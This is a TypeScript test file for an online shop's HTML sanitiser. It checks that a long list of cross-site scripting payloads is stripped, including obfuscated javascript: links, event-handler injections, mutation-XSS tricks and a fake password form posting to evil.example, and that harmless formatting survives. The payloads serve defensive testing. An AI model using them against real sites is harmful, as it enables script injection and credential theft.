import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanArticle, cleanHtml } from './html.ts';

const TAG =
  /^<\/?(p|br|strong|em|b|i|u|ul|ol|li|h[234]|blockquote|table|thead|tbody|tr|th|td|a( href="[^"]*")?( rel="nofollow noopener ugc")?)>$/;

/**
 * Returns the tags of cleaned HTML that could run code, load resources, float over the page, request input, or mislead.
 * Text outside tags is harmless.
 */
function dangersIn(clean: string): string[] {
  const tags = clean.match(/<("[^"]*"|[^>"])*>?/g) ?? [];
  return tags.filter((tag) => {
    if (!TAG.test(tag)) return true;
    const address = / href="([^"]*)"/.exec(tag)?.[1];
    return address !== undefined && !/^(https|mailto|tel)$/.test(schemeOf(address) ?? 'https');
  });
}

/** Returns the scheme of a URL as a browser parses it: entities are decoded and control characters are ignored. */
function schemeOf(address: string): string | undefined {
  const read = address
    .replace(/&#x([0-9a-f]+);?/gi, (_, code: string) => String.fromCodePoint(parseInt(code, 16)))
    .replace(/&#(\d+);?/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/[\u0000-\u0020]/g, '');
  return /^([a-z][a-z0-9+.-]*):/i.exec(read)?.[1]?.toLowerCase();
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target=_blank style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Pay</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<svg onload=alert(1)><template><script>alert(1)</script></template></svg>',
  '<math><template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p id="checkout" name="cookie" class="toast">x</p>',
  '<video><source onerror=alert(1)></video>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '"><img src=x onerror=alert(1)>',
  '<p>unclosed <b <img src=x onerror=alert(1)//',
];

describe('hostile HTML survives nothing', () => {
  test.each(HOSTILE)('%s', async (html) => {
    expect(dangersIn(await cleanHtml(html))).toEqual([]);
  });

  test('not in pieces that only together are dangerous, nor with rubbish between', async () => {
    const rubbish = fc.constantFrom(
      '<p>',
      '</p>',
      '<b',
      '>',
      '"',
      "'",
      '\u0000',
      '<!--',
      '-->',
      '<a href="',
      '&#x3c;',
      '<td>',
      '<li>',
      ' ',
    );
    const pieces = fc.array(fc.oneof(fc.constantFrom(...HOSTILE), rubbish), { maxLength: 6 });
    await fc.assert(
      fc.asyncProperty(pieces, async (html) => {
        expect(dangersIn(await cleanHtml(html.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('and would be noticed if it did', () => {
    for (const html of [
      '<script>',
      '<p onclick=x>',
      '<a href="java&#10;script:x">',
      '<img src=x',
      '<a href="data:x">',
    ]) {
      expect(dangersIn(html)).not.toEqual([]);
    }
  });

  test('nor does cleaning twice change what is left', async () => {
    for (const html of HOSTILE) {
      const once = await cleanHtml(html);
      expect(await cleanHtml(once)).toBe(once);
    }
  });
});

describe('what a description is made of stays', () => {
  test.each([
    '<p>Gold-tone <strong>temple</strong> set, <em>adjustable</em>.</p>',
    '<ul><li>One</li><li>Two</li></ul>',
    '<h2>Care</h2><p>Keep dry.<br>Always.</p>',
    '<table><tbody><tr><th>Length</th><td>18 in</td></tr></tbody></table>',
    '<p>सोने जैसा — 1&#x26;2 &#x3C;3</p>',
  ])('%s', async (html) => {
    expect(await cleanHtml(html)).toBe(html);
  });

  test('but a link vouches for nothing', async () => {
    expect(await cleanHtml('<a href="https://example.in/x?a=1" rel="me">see</a>')).toBe(
      '<a href="https://example.in/x?a=1" rel="nofollow noopener ugc">see</a>',
    );
  });

  test('unless it leads to a page of the shop itself', async () => {
    expect(await cleanHtml('<a href="/category/rings?page=2">rings</a>')).toBe(
      '<a href="/category/rings?page=2">rings</a>',
    );
    expect(await cleanHtml('<a href="//evil.example">x</a>')).toContain('rel="nofollow noopener ugc"');
    expect(await cleanHtml('<a href="/\\evil.example">x</a>')).toContain('rel="nofollow noopener ugc"');
  });

  test('and words of a tag that goes stay where they were', async () => {
    expect(await cleanHtml('<div><span>Pearl</span> drop</div>')).toBe('Pearl drop');
  });
});

describe('an article', () => {
  test('keeps pictures of the shop and products by their ids', async () => {
    const article =
      '<p>x</p><img src="/media/ab12.jpg" alt="A &#x22;coin&#x22;"><p data-product="12"><a href="/product/lotus">Lotus</a></p>';
    expect(await cleanArticle(article)).toBe(article);
    expect(await cleanArticle('<img alt="x" class="y" src="/media/ab12.jpg" onerror="z()">')).toBe(
      '<img src="/media/ab12.jpg" alt="x">',
    );
    expect(await cleanArticle('<img src="/media/ab12.jpg">')).toBe('<img src="/media/ab12.jpg" alt="">');
  });

  test.each([
    '<img src="https://evil.example/x.jpg">',
    '<img src="//evil.example/x.jpg">',
    '<img src="/media/ab12.jpg/../../api/x">',
    '<img src="/media/ab12.jpg?x">',
    '<img src="data:image/png;base64,AA">',
    '<img srcset="/media/ab12.jpg 1x">',
  ])('has no other picture: %s', async (html) => {
    expect(await cleanArticle(`<p>a${html}b</p>`)).toBe('<p>ab</p>');
  });

  test('has no other product', async () => {
    expect(await cleanArticle('<p data-product="1 onclick=x">a</p><p data-product="-3">b</p>')).toBe(
      '<p>a</p><p>b</p>',
    );
  });
});
